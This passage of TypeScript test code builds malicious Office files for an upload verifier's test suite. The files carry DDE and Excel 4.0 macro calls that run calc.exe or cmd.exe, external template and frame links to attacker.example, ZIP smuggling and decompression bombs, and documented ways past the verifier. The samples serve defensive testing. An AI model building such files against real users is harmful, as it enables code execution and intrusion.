      docx({
        body: '<w:p><w:subDoc r:id="rId1"/></w:p>',
        rels: [{ id: 'rId1', type: REL('subDocument'), target: 'https://attacker.example/sub.docx', external: true }],
      }),
    ),
  );
  // 38. A frame (web layout) whose source is elsewhere.
  add(
    'frame-external',
    'docx',
    REASON.external,
    buildZip(
      docx({
        rels: [{ id: 'rId1', type: REL('webSettings'), target: 'webSettings.xml' }],
        overrides: [['/word/webSettings.xml', CT.webSettings]],
        parts: [
          [
            'word/webSettings.xml',
            `${XML}<w:webSettings xmlns:w="${NS.w}" xmlns:r="${NS.r}"><w:frameset><w:frame><w:name w:val="f1"/><w:sourceFileName r:id="rId1"/></w:frame></w:frameset></w:webSettings>`,
          ],
          [
            'word/_rels/webSettings.xml.rels',
            relationships([{ id: 'rId1', type: REL('frame'), target: 'https://attacker.example/frame.html', external: true }]),
          ],
        ],
      }),
    ),
  );

  // --- Bytes that belong to no entry -------------------------------------------------------------
  // 23. An HTML page in front: a polyglot a browser renders and an unzipper opens.
  add(
    'prefix-html',
    'docx',
    REASON.beforeFirstEntry,
    buildZip(docx(), {
      prefix: utf8('<html><body><p>Invoice</p><script>location.href="https://attacker.example/"</script></body></html>\n'),
    }),
  );
  // 24. A Windows executable in front: a self-extractor.
  add('prefix-pe', 'docx', REASON.beforeFirstEntry, buildZip(docx(), { prefix: peStub() }));
  // 25. A well-formed local entry (a VBA project) in front that the directory does not list:
  // starts with PK\3\4 like any ZIP, and a streaming reader extracts it.
  add(
    'prefix-smuggled-local-header',
    'docx',
    REASON.beforeFirstEntry,
    buildZip(docx(), { prefix: localRecord({ name: 'word/vbaProject.bin', data: cfb(1024), method: 0 }).bytes }),
  );
  // 35. A gap between two entries.
  add(
    'gap-between-entries',
    'docx',
    REASON.outsideEntries,
    buildZip(change(docx(), DOCUMENT, () => ({ before: concat([utf8('hidden:'), cfb(512)]) }))),
  );
  // A gap between the last entry and the directory (beyond the numbered list).
  add('gap-before-directory', 'docx', REASON.outsideEntries, buildZip(docx(), { beforeDirectory: concat([utf8('hidden:'), cfb(512)]) }));

  // --- Duplicates ----------------------------------------------------------------------------------
  // 26. Which one a reader takes depends on the reader.
  add(
    'duplicate-names',
    'docx',
    REASON.duplicate,
    buildZip([...docx(), { name: DOCUMENT, data: utf8(wordDocument(para('The other body'))) }]),
  );
  // 27. The same name on a case-insensitive file system.
  add(
    'duplicate-names-case',
    'docx',
    REASON.duplicate,
    buildZip([...docx(), { name: 'Word/Document.xml', data: utf8(wordDocument(para('The other body'))) }]),
  );

  // --- Sizes, CRCs, bombs -------------------------------------------------------------------------
  // 28. Declares 1 KiB (with that KiB's CRC) and inflates to 200 MiB: only stopping at the declared size saves the reader.
  add(
    'inflates-past-declared-size',
    'docx',
    REASON.overflow,
    buildZip([
      ...docx({ defaults: [['bin', CT.octet]] }),
      { name: 'word/media/padding.bin', data: new Uint8Array(1024), compressed: await inflatesTo200MiB() },
    ]),
  );
  // 29. Seven honest 8 MiB entries of zeros: each under a per-entry size threshold, 56 MiB from ~60 KB.
  {
    const zeros = await eightMiBOfZeros();
    add(
      'zeros-1000-to-1',
      'docx',
      REASON.bomb,
      buildZip([
        ...docx({ defaults: [['bin', CT.octet]] }),
        ...Array.from({ length: 7 }, (_, i): ZipEntry => ({ name: `word/media/zeros${i + 1}.bin`, ...zeros })),
      ]),
    );
  }
  // 34. Both headers agree on a CRC the data does not have.
  add('crc-mismatch', 'docx', REASON.crc, buildZip(change(docx(), DOCUMENT, (e) => ({ crc: (crc32(e.data) ^ 0x5a5a5a5a) >>> 0 }))));

  // --- Workbooks ------------------------------------------------------------------------------------
  // 30. An Excel 4.0 macro sheet that runs on open, named and typed like an ordinary worksheet.
  add(
    'xlsx-macrosheet-neutral-name',
    'xlsx',
    REASON.macro,
    buildZip(
      xlsx({
        workbook: workbook(
          `${SHEET1}<sheet name="Macro1" sheetId="2" state="hidden" r:id="rId2"/>`,
          '<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames>',
        ),
        rels: [{ id: 'rId2', type: MS_REL('xlMacrosheet'), target: 'worksheets/sheet2.xml' }],
        overrides: [['/xl/worksheets/sheet2.xml', CT.worksheet]],
        parts: [
          [
            'xl/worksheets/sheet2.xml',
            `${XML}<xm:macrosheet xmlns="${NS.x}" xmlns:xm="${NS.xm}"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>`,
          ],
        ],
      }),
    ),
  );
  // 31 and 36: an external link part, reached the ordinary way; the link inside is the defect.
  const externalLink = (content: string, parts: Part[] = []) =>
    xlsx({
      workbook: workbook(SHEET1, '<externalReferences><externalReference r:id="rId2"/></externalReferences>'),
      rels: [{ id: 'rId2', type: REL('externalLink'), target: 'externalLinks/externalLink1.xml' }],
      overrides: [['/xl/externalLinks/externalLink1.xml', CT.externalLink]],
      parts: [
        ['xl/externalLinks/externalLink1.xml', `${XML}<externalLink xmlns="${NS.x}" xmlns:r="${NS.r}">${content}</externalLink>`],
        ...parts,
      ],
    });
  // 31. A DDE link: Excel asks the "cmd" service for a topic, i.e. runs a command.
  add(
    'xlsx-dde-link',
    'xlsx',
    REASON.dde,
    buildZip(
      externalLink('<ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink>'),
    ),
  );
  // 36. A link to a workbook elsewhere, refreshed from the attacker's server.
  add(
    'xlsx-external-workbook',
    'xlsx',
    REASON.external,
    buildZip(
      externalLink('<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook>', [
        [
          'xl/externalLinks/_rels/externalLink1.xml.rels',
          relationships([{ id: 'rId1', type: REL('externalLinkPath'), target: 'https://attacker.example/book2.xlsx', external: true }]),
        ],
      ]),
    ),
  );

  // --- Presentations --------------------------------------------------------------------------------
  // 32. An ActiveX control on a slide: the control's XML, and its persisted binary.
  add(
    'pptx-activex',
    'pptx',
    REASON.activeX,
    buildZip(
      pptx({
        controls: '<p:controls><p:control name="CommandButton1" r:id="rId1" imgW="914400" imgH="457200"/></p:controls>',
        slideRels: [{ id: 'rId1', type: REL('control'), target: '../activeX/activeX1.xml' }],
        defaults: [['bin', CT.activeXBinary]],
        overrides: [['/ppt/activeX/activeX1.xml', CT.activeX]],
        parts: [
          [
            'ppt/activeX/activeX1.xml',
            `${XML}<ax:ocx xmlns:ax="${NS.ax}" xmlns:r="${NS.r}" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStorage" r:id="rId1"/>`,
          ],
          [
            'ppt/activeX/_rels/activeX1.xml.rels',
            relationships([{ id: 'rId1', type: MS_REL('activeXControlBinary'), target: 'activeX1.bin' }]),
          ],
          ['ppt/activeX/activeX1.bin', cfb(2048)],
        ],
      }),
    ),
  );
  // 33. A linked OLE object on a slide.
  add(
    'pptx-ole-external-link',
    'pptx',
    REASON.oleOrExternal,
    buildZip(
      pptx({
        shapes:
          '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="2" name="Object 1"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr>' +
          '<p:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></p:xfrm>' +
          '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">' +
          '<p:oleObj name="Worksheet" r:id="rId1" progId="Excel.Sheet.12"><p:link updateAutomatic="1"/></p:oleObj>' +
          '</a:graphicData></a:graphic></p:graphicFrame>',
        slideRels: [{ id: 'rId1', type: REL('oleObject'), target: 'file:///C:/x.xls', external: true }],
      }),
    ),
  );

  // An honest-looking chart whose embedded workbook carries a VBA project: the package inside is
  // judged by the same rules as the upload, whatever the outer content types call it.
  add('embedded-workbook-with-macros', 'docx', REASON.macro, docxWithChartWorkbook(macroWorkbook()));
  // The same with a DDE link in the embedded workbook.
  add(
    'embedded-workbook-with-dde',
    'docx',
    /DDE/,
    docxWithChartWorkbook(
      buildZip(
        xlsx({
          workbook: workbook(SHEET1, '<externalReferences><externalReference r:id="rId2"/></externalReferences>'),
          overrides: [
            ['/xl/externalLinks/externalLink1.xml', 'application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml'],
          ],
          rels: [{ id: 'rId2', type: REL('externalLink'), target: 'externalLinks/externalLink1.xml' }],
          parts: [
            [
              'xl/externalLinks/externalLink1.xml',
              `${XML}<externalLink xmlns="${NS.x}"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0"/></ddeItems></ddeLink></externalLink>`,
            ],
          ],
        }),
      ),
    ),
  );

  // --- Found in review: what the verifier did not see ----------------------------------------------
  // A second, complete archive in the end record's comment. LibreOffice (7.4 tested) opens the
  // hidden one and, opening it, fetches the external image; Python's zipfile lists it too. The
  // verifier judges the decoy, so nothing in the hidden archive is ever judged.
  add(
    'second-archive-in-end-record-comment',
    'docx',
    REASON.endRecord,
    withArchiveInComment(
      buildZip(docx({ body: para('Quarterly report') })),
      buildZip(
        docx({
          body:
            inlineDrawing(
              'Picture 1',
              `<a:graphicData uri="${NS.pic}"><pic:pic xmlns:pic="${NS.pic}"><pic:nvPicPr><pic:cNvPr id="0" name="pixel.png"/><pic:cNvPicPr/></pic:nvPicPr>` +
                '<pic:blipFill><a:blip r:link="rId1"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>' +
                '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="952500" cy="952500"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData>',
            ) + complexField([` DDEAUTO ${DDE_ARGS} `]),
          rels: [{ id: 'rId1', type: REL('image'), target: 'https://attacker.example/pixel.png', external: true }],
        }),
      ),
    ),
  );
  // An embedded workbook with a VBA project whose deflate stream yields "PK" alone first: the
  // sniff for PK\3\4 only looks at the first inflated chunk, so the package is never opened.
  {
    const macroBytes = macroWorkbook();
    add(
      'embedded-package-magic-split',
      'docx',
      REASON.macro,
      buildZip([
        ...docx({
          body: inlineDrawing('Chart 1', `<a:graphicData uri="${NS.c}"><c:chart xmlns:c="${NS.c}" r:id="rId1"/></a:graphicData>`),
          rels: [{ id: 'rId1', type: REL('chart'), target: 'charts/chart1.xml' }],
          defaults: [['xlsx', CT.xlsx]],
          overrides: [['/word/charts/chart1.xml', CT.chart]],
          parts: [
            ['word/charts/chart1.xml', CHART],
            [
              'word/charts/_rels/chart1.xml.rels',
              relationships([{ id: 'rId1', type: REL('package'), target: '../embeddings/Microsoft_Excel_Worksheet.xlsx' }]),
            ],
          ],
        }),
        {
          name: 'word/embeddings/Microsoft_Excel_Worksheet.xlsx',
          data: macroBytes,
          compressed: deflateFirstTwoBytesAlone(macroBytes),
        },
      ]),
    );
  }
  // The same split over an OLE compound file's magic, under a neutral name and content type.
  {
    const compound = cfb(4096);
    add(
      'cfb-magic-split',
      'docx',
      REASON.ole,
      buildZip([
        ...docx({ defaults: [['bin', CT.octet]] }),
        { name: 'word/media/data.bin', data: compound, compressed: deflateFirstTwoBytesAlone(compound) },
      ]),
    );
  }
  // Field code is every character between a field's begin and separate, whatever element holds it:
  // Word and LibreOffice (tested: a HYPERLINK written this way becomes a link) read w:t and
  // w:delText there as instruction text, the verifier only w:instrText and w:delInstrText.
  const fieldCodeIn = (run: string) =>
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' +
    run +
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Loading</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>';
  add(
    'dde-in-field-text-run',
    'docx',
    REASON.dde,
    buildZip(docx({ body: fieldCodeIn(`<w:r><w:t xml:space="preserve"> DDEAUTO ${DDE_ARGS} </w:t></w:r>`) })),
  );
  add(
    'dde-in-field-deleted-text',
    'docx',
    REASON.dde,
    buildZip(
      docx({
        body: fieldCodeIn(
          `<w:del w:id="1" w:author="A" w:date="2024-01-01T00:00:00Z"><w:r><w:delText xml:space="preserve"> DDEAUTO ${DDE_ARGS} </w:delText></w:r></w:del>`,
        ),
      }),
    ),
  );
  // One instruction text of DDEAUTO and 5,000 trailing spaces: only the last 4,096 characters of
  // an instruction are kept, and they are all spaces when it is judged. Word keeps field codes far
  // longer than that (reference managers store whole citations in them).
  add('dde-instruction-padded', 'docx', REASON.dde, buildZip(docx({ body: complexField([` DDEAUTO ${DDE_ARGS}${' '.repeat(5000)}`]) })));
  // altChunk: Word imports another document into this one when it opens, here RTF carrying a
  // DDEAUTO field (RTF can as well carry OLE objects, \object\objemb). Nothing reads the RTF.
  add(
    'altchunk-rtf-dde',
    'docx',
    REASON.altChunk,
    buildZip(
      docx({
        body: '<w:altChunk r:id="rId1"/><w:p/>',
        rels: [{ id: 'rId1', type: REL('aFChunk'), target: 'afchunk.rtf' }],
        defaults: [['rtf', 'application/rtf']],
        parts: [
          [
            'word/afchunk.rtf',
            `{\\rtf1\\ansi {\\field{\\*\\fldinst DDEAUTO ${DDE_ARGS.replaceAll('\\', '\\\\')}}{\\fldrslt Loading}}\\par}`,
          ],
        ],
      }),
    ),
  );
  // A relationships part whose root is not in the OPC namespace: its relationships are never judged,
  // yet LibreOffice (tested) follows them (it names elements, not namespaces, when it reads rels).
  add(
    'relationships-foreign-namespace',
    'docx',
    REASON.malformedRels,
    buildZip(
      docx({
        rels: [{ id: 'rId1', type: REL('settings'), target: 'settings.xml' }],
        overrides: [['/word/settings.xml', CT.settings]],
        parts: [
          ['word/settings.xml', `${XML}<w:settings xmlns:w="${NS.w}" xmlns:r="${NS.r}"><w:attachedTemplate r:id="rId1"/></w:settings>`],
          [
            'word/_rels/settings.xml.rels',
            relationships([
              { id: 'rId1', type: REL('attachedTemplate'), target: 'https://attacker.example/t.dotm', external: true },
            ]).replace(NS.packageRels, 'urn:not-the-opc-namespace'),
          ],
        ],
      }),
    ),
  );
  // PowerPoint's "Run program" action setting, on mouse-over: a hyperlink relationship whose target
  // is a local program (a file: URL), run when the pointer passes over the shape in a slide show.
  add(
    'pptx-run-program-action',
    'pptx',
    REASON.external,
    buildZip(
      pptx({
        shapes:
          '<p:sp><p:nvSpPr><p:cNvPr id="2" name="Button"><a:hlinkMouseOver r:id="rId1" action="ppaction://program"/></p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr>' +
          '<p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="9144000" cy="6858000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:sp>',
        slideRels: [{ id: 'rId1', type: REL('hyperlink'), target: 'file:///C:/Windows/System32/cmd.exe', external: true }],
      }),
    ),
  );
  // An Office web add-in, shown (and its JavaScript run) when the document opens, from a catalog on
  // the attacker's file share.
  add(
    'webextension-taskpane',
    'docx',
    REASON.addIn,
    buildZip([
      ...docx({
        overrides: [
          ['/word/webextensions/taskpanes.xml', 'application/vnd.ms-office.webextensiontaskpanes+xml'],
          ['/word/webextensions/webextension1.xml', 'application/vnd.ms-office.webextension+xml'],
        ],
      }).map((e) =>
        e.name === '_rels/.rels'
          ? {
              ...e,
              data: utf8(
                relationships([
                  { id: 'rId1', type: REL('officeDocument'), target: 'word/document.xml' },
                  {
                    id: 'rId2',
                    type: 'http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes',
                    target: 'word/webextensions/taskpanes.xml',
                  },
                ]),
              ),
            }
          : e,
      ),
      {
        name: 'word/webextensions/taskpanes.xml',
        data: utf8(
          `${XML}<wetp:taskpanes xmlns:wetp="http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11" xmlns:r="${NS.r}">` +
            '<wetp:taskpane dockstate="right" visibility="1" width="350" row="0"><wetp:webextensionref r:id="rId1"/></wetp:taskpane></wetp:taskpanes>',
        ),
      },
      {
        name: 'word/webextensions/_rels/taskpanes.xml.rels',
        data: utf8(
          relationships([
            { id: 'rId1', type: 'http://schemas.microsoft.com/office/2011/relationships/webextension', target: 'webextension1.xml' },
          ]),
        ),
      },
      {
        name: 'word/webextensions/webextension1.xml',
        data: utf8(
          `${XML}<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11" id="{6A0B1C2D-0000-4000-8000-000000000001}">` +
            '<we:reference id="{6A0B1C2D-0000-4000-8000-000000000002}" version="1.0.0.0" store="\\\\attacker.example\\catalog" storeType="FileSystem"/>' +
            '<we:properties><we:property name="Office.AutoShowTaskpaneWithDocument" value="true"/></we:properties><we:bindings/></we:webextension>',
        ),
      },
    ]),
  );
  // Thousands of fields opened and never closed, then as many instruction texts: every text is
  // appended to every open field, and each open field's text re-cut to 4,096 characters, so the
  // work grows with their product: 4,000 of each (a 200 KB upload) take about 5 s of CPU, 8,000 about
  // 5 minutes (Node 20, this machine). Kept at 4,000 so that the suite stays fast while it is accepted.
  add(
    'field-nesting-cpu',
    'docx',
    REASON.fieldNesting,
    buildZip(
      docx({
        body:
          '<w:p>' +
          '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'.repeat(4000) +
          '<w:r><w:instrText>a</w:instrText></w:r>'.repeat(4000) +
          '</w:p>',
        defaults: [['bin', CT.octet]],
        parts: [['word/media/padding.bin', noise(200_000)]],
      }),
    ),
  );

  return samples;
}

// ---------------------------------------------------------------------------------------------
// Honest, if unusual: what the verifier must accept

/** An inline drawing in Word: a picture (by r:embed) or a chart (by r:id), both pointing at rId1. */
const inlineDrawing = (name: string, graphicData: string) =>
  `<w:p><w:r><w:drawing><wp:inline xmlns:wp="${NS.wp}" distT="0" distB="0" distL="0" distR="0"><wp:extent cx="952500" cy="952500"/>` +
  `<wp:docPr id="1" name="${name}"/><a:graphic xmlns:a="${NS.a}">${graphicData}</a:graphic></wp:inline></w:drawing></w:r></w:p>`;

const CHART =
  `${XML}<c:chartSpace xmlns:c="${NS.c}" xmlns:a="${NS.a}" xmlns:r="${NS.r}"><c:chart><c:plotArea><c:layout/>` +
  '<c:barChart><c:barDir val="col"/><c:grouping val="clustered"/><c:ser><c:idx val="0"/><c:order val="0"/>' +
  '<c:val><c:numRef><c:f>Sheet1!$A$1</c:f><c:numCache><c:formatCode>General</c:formatCode><c:ptCount val="1"/><c:pt idx="0"><c:v>42</c:v></c:pt></c:numCache></c:numRef></c:val>' +
  '</c:ser><c:axId val="1"/><c:axId val="2"/></c:barChart>' +
  '<c:catAx><c:axId val="1"/><c:scaling><c:orientation val="minMax"/></c:scaling><c:axPos val="b"/><c:crossAx val="2"/></c:catAx>' +
  '<c:valAx><c:axId val="2"/><c:scaling><c:orientation val="minMax"/></c:scaling><c:axPos val="l"/><c:crossAx val="1"/></c:valAx>' +
  '</c:plotArea></c:chart><c:externalData r:id="rId1"><c:autoUpdate val="0"/></c:externalData></c:chartSpace>';

/** A workbook carrying a VBA project, reached by its relationship only. */
const macroWorkbook = () =>
  buildZip(
    xlsx({
      defaults: [['bin', CT.octet]],
      rels: [{ id: 'rId9', type: MS_REL('vbaProject'), target: 'payload.bin' }],
      parts: [['xl/payload.bin', noise(1024)]],
    }),
  );

/** A .docx with a chart whose data is the given workbook package, embedded as Word does it. */
const docxWithChartWorkbook = (workbookPackage: Uint8Array) =>
  buildZip(
    docx({
      body: inlineDrawing('Chart 1', `<a:graphicData uri="${NS.c}"><c:chart xmlns:c="${NS.c}" r:id="rId1"/></a:graphicData>`),
      rels: [{ id: 'rId1', type: REL('chart'), target: 'charts/chart1.xml' }],
      defaults: [['xlsx', CT.xlsx]],
      overrides: [['/word/charts/chart1.xml', CT.chart]],
      parts: [
        ['word/charts/chart1.xml', CHART],
        [
          'word/charts/_rels/chart1.xml.rels',
          relationships([{ id: 'rId1', type: REL('package'), target: '../embeddings/Microsoft_Excel_Worksheet.xlsx' }]),
        ],
        ['word/embeddings/Microsoft_Excel_Worksheet.xlsx', workbookPackage],
      ],
    }),
  );

export async function makeHonestTrickySamples(): Promise<HonestSample[]> {
  const honest = (name: string, bytes: Uint8Array): HonestSample => ({ name, filename: `${name}.docx`, bytes });
  return [
    // The one kind of external target allowed: a hyperlink.
    honest(
      'external-hyperlink',
      buildZip(
        docx({
          body: '<w:p><w:hyperlink r:id="rId1" w:history="1"><w:r><w:t>Our website</w:t></w:r></w:hyperlink></w:p>',
          rels: [{ id: 'rId1', type: REL('hyperlink'), target: 'https://example.com/', external: true }],
        }),
      ),
    ),
    // As streaming writers produce them: zeros in the local headers, the truth in descriptors after the data.
    honest('data-descriptors', buildZip(docx().map((e): ZipEntry => ({ ...e, dataDescriptor: true })))),
    // Nothing compressed.
    honest('stored-entries', buildZip(docx().map((e): ZipEntry => ({ ...e, method: 0 })))),
    // A UTF-8 byte order mark before the XML declaration: still UTF-8.
    honest('utf8-bom', buildZip(docx({ document: concat([new Uint8Array([0xef, 0xbb, 0xbf]), utf8(wordDocument(para('With a BOM')))]) }))),
    // A chart as Word embeds one: its data in a whole .xlsx package inside the .docx.
    honest('embedded-chart', docxWithChartWorkbook(buildZip(xlsx()))),
    // A part name is a URI: a space is %20 in the ZIP name and in the target alike (not an unreserved character).
    honest(
      'percent-encoded-name',
      buildZip(
        docx({
          body: inlineDrawing(
            'Picture 1',
            `<a:graphicData uri="${NS.pic}"><pic:pic xmlns:pic="${NS.pic}"><pic:nvPicPr><pic:cNvPr id="0" name="image one.png"/><pic:cNvPicPr/></pic:nvPicPr>` +
              '<pic:blipFill><a:blip r:embed="rId1"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>' +
              '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="952500" cy="952500"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData>',
          ),
          rels: [{ id: 'rId1', type: REL('image'), target: 'media/image%20one.png' }],
          defaults: [['png', CT.png]],
          parts: [['word/media/image%20one.png', PNG]],
        }),
      ),
    ),
  ];
}
